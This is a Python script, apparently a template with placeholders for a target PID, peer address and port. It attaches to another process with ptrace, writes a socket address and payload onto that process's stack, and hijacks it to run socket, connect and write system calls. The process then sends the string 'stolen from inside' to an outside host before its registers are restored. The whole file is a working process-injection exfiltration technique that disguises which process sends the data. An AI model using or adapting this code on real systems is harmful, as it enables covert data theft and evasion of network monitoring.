import ctypes, os, struct, sys
# Makes the process @PID@ open a connection to @PEER@:@PORT@ and send from one of its own threads:
# system calls are made in its name by ptrace, with the address written onto its stack.
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
pid = @PID@
def ptrace(request, address=0, data=0):
    if libc.ptrace(request, pid, address, data) < 0:
        sys.exit(f"ptrace {request}: {os.strerror(ctypes.get_errno())}")
ptrace(16)  # attach
os.waitpid(pid, 0x40000000)
saved = (ctypes.c_ulonglong * 27)()
ptrace(12, 0, ctypes.addressof(saved))
RAX, RDI, RSI, RDX, R10, R8, R9, ORIG, RIP, RSP = 10, 14, 13, 12, 7, 9, 8, 15, 16, 19
stack = (saved[RSP] - 1024) & ~0xF
def poke(at, data):
    for i in range(0, len(data), 8):
        word = int.from_bytes(data[i:i + 8].ljust(8, b"\0"), "little")
        ptrace(5, at + i, word)
def call(number, *arguments):
    registers = (ctypes.c_ulonglong * 27)(*saved)
    registers[RAX], registers[ORIG], registers[RIP] = number, 2**64 - 1, saved[RIP] - 2
    for place, value in zip((RDI, RSI, RDX, R10, R8, R9), arguments):
        registers[place] = value
    ptrace(13, 0, ctypes.addressof(registers))
    ptrace(9)  # one step: the system call
    os.waitpid(pid, 0x40000000)
    ptrace(12, 0, ctypes.addressof(registers))
    return ctypes.c_longlong(registers[RAX]).value
poke(stack, struct.pack("<H", 2) + struct.pack(">H4s", @PORT@, bytes(int(p) for p in "@PEER@".split("."))) + bytes(8))
poke(stack + 64, b"stolen from inside" * 8)
out = call(41, 2, 1, 0)
if out >= 0 and call(42, out, stack, 16) == 0:
    for _ in range(20):
        call(1, out, stack + 64, 144)
call(3, out)
ptrace(13, 0, ctypes.addressof(saved))
ptrace(17)
